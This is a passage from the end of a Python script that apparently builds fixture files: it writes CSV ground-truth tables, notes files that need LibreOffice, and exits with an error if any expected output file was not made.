        elif not (FILES / name).exists():
            print(f"{name}: needs LibreOffice", file=sys.stderr)
    for name, rows in truth().items():
        with (HERE / name).open("w", encoding="utf-8", newline="") as file:
            csv.writer(file, lineterminator="\n").writerows(rows)
    missing = {c.name for c in CONTRIBUTIONS} - {p.name for p in FILES.iterdir()}
    if missing:
        raise SystemExit(f"not made: {sorted(missing)}")


if __name__ == "__main__":
    main()
